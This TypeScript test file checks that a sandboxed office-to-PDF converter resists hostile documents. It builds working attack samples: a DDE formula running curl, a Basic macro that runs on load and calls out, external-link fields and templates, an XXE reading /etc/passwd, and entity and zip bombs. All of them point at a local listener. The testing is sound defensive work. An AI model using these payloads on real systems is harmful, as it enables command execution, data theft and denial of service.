import { chmodSync, existsSync, mkdtempSync, rmSync } from "node:fs"
import { createServer, type Server } from "node:http"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { strFromU8, strToU8, unzipSync, zipSync } from "fflate"
import sharp from "sharp"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { findProgram } from "../sandbox/programs.ts"
import { probeSandbox } from "../sandbox/probe.ts"
import type { SandboxRung } from "../sandbox/spec.ts"
import { wrapCsv, wrapText } from "./prepare/plain-text.ts"
import { officeCache } from "./office-cache.test-kit.ts"
import { createOfficePool, type OfficePool } from "./pool.ts"

/** A listener that counts visits, and a picture that must not be read. */
let server: Server
let visits: string[]
let base: string
const folder = mkdtempSync(join(tmpdir(), "attack-test-"))
const marker = join(folder, "marker.png")

beforeAll(async () => {
  visits = []
  server = createServer((request, response) => {
    visits.push(request.url ?? "")
    response.end("x")
  })
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve))
  const address = server.address()
  base = `http://127.0.0.1:${typeof address === "object" ? address?.port : 0}`
  chmodSync(folder, 0o755)
  await sharp({
    create: { width: 640, height: 480, channels: 3, background: { r: 255, g: 0, b: 255 } },
  })
    .png()
    .toFile(marker)
})
afterAll(() => {
  server.close()
  rmSync(folder, { recursive: true, force: true })
})

const edit = (
  bytes: Uint8Array,
  changes: Readonly<Record<string, (xml: string) => string>>,
): Uint8Array => {
  const parts = unzipSync(bytes)
  for (const [name, change] of Object.entries(changes))
    parts[name] = strToU8(change(strFromU8(parts[name] ?? new Uint8Array())))
  return zipSync(parts)
}
const relate = (type: string, target: string) => (xml: string) =>
  xml.replace(
    "</Relationships>",
    `<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  )

/** A document with a picture that lies elsewhere. Source: ECMA-376 part 1, 20.1.8.13, r:link. */
const linkedPicture = (target: string): Uint8Array =>
  edit(wrapText(new TextEncoder().encode("text")), {
    "word/_rels/document.xml.rels": relate("image", target),
    "word/document.xml": (xml) =>
      xml.replace(
        "<w:body>",
        '<w:body><w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="3000000" cy="2000000"/><wp:docPr id="1" name="p"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:link="rIdX"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="3000000" cy="2000000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>',
      ),
  })

const field = (code: string): Uint8Array =>
  edit(wrapText(new TextEncoder().encode("text")), {
    "word/document.xml": (xml) =>
      xml.replace(
        "<w:body>",
        `<w:body><w:p><w:fldSimple w:instr=" ${code} "><w:r><w:t>f</w:t></w:r></w:fldSimple></w:p>`,
      ),
  })

const template = (target: string): Uint8Array => {
  const parts = unzipSync(wrapText(new TextEncoder().encode("text")))
  parts["word/settings.xml"] = strToU8(
    '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rIdX"/></w:settings>',
  )
  parts["word/_rels/settings.xml.rels"] = strToU8(
    relate(
      "attachedTemplate",
      target,
    )(
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>',
    ),
  )
  return zipSync(parts)
}

const formula = (text: string): Uint8Array =>
  edit(wrapCsv(new TextEncoder().encode("1,2")), {
    "xl/worksheets/sheet1.xml": (xml) => xml.replace("<c><v>1</v></c>", `<c><f>${text}</f></c>`),
  })

const rtfField = (code: string): Uint8Array =>
  new TextEncoder().encode(`{\\rtf1{\\field{\\*\\fldinst ${code}}{\\fldrslt x}}}`)

/** Every way in that is known, with the address it leads to. */
const vectors: readonly (readonly [
  name: string,
  kind: "word" | "excel",
  make: (address: string) => Uint8Array,
])[] = [
  ["a linked picture", "word", linkedPicture],
  ["INCLUDEPICTURE", "word", (address) => field(`INCLUDEPICTURE &quot;${address}&quot; \\d`)],
  ["INCLUDETEXT", "word", (address) => field(`INCLUDETEXT &quot;${address}&quot;`)],
  ["an attached template", "word", template],
  ["WEBSERVICE", "excel", (address) => formula(`_xlfn.WEBSERVICE("${address}")`)],
  ["DDE", "excel", (address) => formula(`cmd|'/C curl ${address}'!A0`)],
  // Last: a start takes as long as a dozen documents.
  ["an RTF field", "word", (address) => rtfField(`INCLUDEPICTURE "${address}" \\\\d`)],
]

const refused: readonly (readonly [
  name: string,
  kind: "word" | "excel",
  make: (address: string) => string,
])[] = [
  [
    "a web page named docx",
    "word",
    (address) => `<html><img src="${address}"><link rel=stylesheet href="${address}"></html>`,
  ],
  [
    "a web page named xlsx",
    "excel",
    (address) => `<table><tr><td><img src="${address}"></td></tr></table>`,
  ],
  [
    "flat ODF named docx",
    "word",
    (address) =>
      `<?xml version="1.0"?><office:document xmlns:office="o" office:mimetype="application/vnd.oasis.opendocument.text"><draw:image xlink:href="${address}"/></office:document>`,
  ],
]

/**
 * A text document whose Basic macro runs when it is opened, writes a file and calls home. Source:
 * ODF 1.3 part 3, 14.4.3.
 */
function macroDocument(written: string, address: string): Uint8Array {
  const script = `Sub Main\nOpen &quot;${written}&quot; For Output As #1\nPrint #1, &quot;ran&quot;\nClose #1\nShell(&quot;/usr/bin/curl&quot;, 0, &quot;${address}&quot;, True)\nEnd Sub`
  const library = (kind: string, body: string): string =>
    `<?xml version="1.0"?><library:${kind} xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink" ${body}</library:${kind}>`
  const names = [
    "content.xml",
    "Basic/script-lc.xml",
    "Basic/Standard/script-lb.xml",
    "Basic/Standard/Module1.xml",
  ]
  const entry = (path: string, type: string): string =>
    `<manifest:file-entry manifest:full-path="${path}" manifest:media-type="${type}"/>`
  return zipSync({
    mimetype: [strToU8("application/vnd.oasis.opendocument.text"), { level: 0 }],
    "content.xml": strToU8(
      '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:dom="http://www.w3.org/2001/xml-events" xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3"><office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners></office:scripts><office:body><office:text><text:p>text</text:p></office:text></office:body></office:document-content>',
    ),
    "Basic/script-lc.xml": strToU8(
      library("libraries", '><library:library library:name="Standard" library:link="false"/>'),
    ),
    "Basic/Standard/script-lb.xml": strToU8(
      library(
        "library",
        'library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="Module1"/>',
      ),
    ),
    "Basic/Standard/Module1.xml": strToU8(
      `<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">${script}</script:module>`,
    ),
    "META-INF/manifest.xml": strToU8(
      `<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">${entry("/", "application/vnd.oasis.opendocument.text")}${names.map((name) => entry(name, "text/xml")).join("")}</manifest:manifest>`,
    ),
  })
}

/** Ten levels of ten: a few hundred bytes that mean a gigabyte. */
const entityBomb = `<!DOCTYPE x [<!ENTITY a0 "aaaaaaaaaa">${Array.from({ length: 9 }, (_, level) => `<!ENTITY a${level + 1} "${`&a${level};`.repeat(10)}">`).join("")}]>`

/** Documents that are bombs, or that ask the program to read them something. */
const bombs: readonly (readonly [name: string, make: () => Uint8Array])[] = [
  [
    "entities of entities",
    () =>
      edit(wrapText(new TextEncoder().encode("text")), {
        "word/document.xml": (xml) =>
          xml
            .replace("<w:document", `${entityBomb}<w:document`)
            .replace("<w:body>", "<w:body><w:p><w:r><w:t>&a9;</w:t></w:r></w:p>"),
      }),
  ],
  [
    "an external entity",
    () =>
      edit(wrapText(new TextEncoder().encode("text")), {
        "word/document.xml": (xml) =>
          xml
            .replace(
              "<w:document",
              '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document',
            )
            .replace("<w:body>", "<w:body><w:p><w:r><w:t>&e;</w:t></w:r></w:p>"),
      }),
  ],
  [
    "nesting without end",
    () =>
      edit(wrapText(new TextEncoder().encode("text")), {
        "word/document.xml": (xml) =>
          xml.replace(
            "<w:body>",
            `<w:body>${"<w:tbl><w:tr><w:tc>".repeat(5000)}${"</w:tc></w:tr></w:tbl>".repeat(5000)}`,
          ),
      }),
  ],
  [
    "a part that unpacks to several hundred times its size",
    () =>
      zipSync({
        ...unzipSync(wrapText(new TextEncoder().encode("text"))),
        "word/media/a.xml": [new Uint8Array(100 << 20), { level: 6 }],
      }),
  ],
]

/** Pixels of the marker in a PDF would come as a 640 by 480 picture. */
const holdsMarker = (pdf: Uint8Array): boolean =>
  /\/Width 640\b/.test(new TextDecoder("latin1").decode(pdf))

const madeBombs = new Map(bombs.map(([name, make]) => [name, make()]))

for (const rung of ["bubblewrap", "limits"] satisfies SandboxRung[]) {
  const sandbox = await probeSandbox({ highest: rung })
  describe.skipIf(!findProgram("soffice") || sandbox.rung !== rung)(
    `hostile documents on the rung ${rung}`,
    () => {
      let pool: OfficePool
      beforeAll(async () => {
        pool = await createOfficePool({ sandbox, cache: officeCache, workers: 1 })
      })
      afterAll(() => pool.close())

      // Both ways in turn: texts of other forms than docx come last, with a program of their own.
      it("fetch nothing from the network, and read no file of the machine", async () => {
        for (const [name, kind, make] of vectors) {
          const convert = (address: string) =>
            pool
              .convert({ bytes: make(address), kind, extension: "x", options: {} })
              .catch((error: { code?: string }) => expect(error.code).toBe("file/damaged"))
          await convert(`${base}/${encodeURIComponent(name)}`)
          const made = await convert(`file://${marker}`)
          if (made) expect([name, holdsMarker(made.pdf)]).toEqual([name, false])
        }
        expect(visits).toEqual([])
      })

      it("run no macro", async () => {
        const written = join(folder, `written-${rung}`)
        await pool
          .convert({
            bytes: macroDocument(written, `${base}/macro`),
            kind: "word",
            extension: "odt",
            options: {},
          })
          .catch((error: { code?: string }) => expect(error.code).toBe("file/damaged"))
        expect(existsSync(written)).toBe(false)
        expect(visits).toEqual([])
      })

      it.each(bombs)(
        "with %s are refused before any program opens them",
        async (name) => {
          const bytes = madeBombs.get(name) ?? new Uint8Array()
          const begun = performance.now()
          await expect(
            pool.convert({ bytes, kind: "word", extension: "docx", options: {} }),
          ).rejects.toMatchObject({
            code: expect.stringMatching(/^(file\/damaged|limit\/size|type\/unsupported)$/),
          })
          expect(performance.now() - begun).toBeLessThan(30_000)
        },
        120_000,
      )

      it("that are web pages or flat XML under office names never reach the office program", async () => {
        for (const [, kind, make] of refused) {
          await expect(
            pool.convert({
              bytes: new TextEncoder().encode(make(`${base}/page`)),
              kind,
              extension: "docx",
              options: {},
            }),
          ).rejects.toMatchObject({ code: "type/unsupported" })
        }
        expect(visits).toEqual([])
      })
    },
  )
}
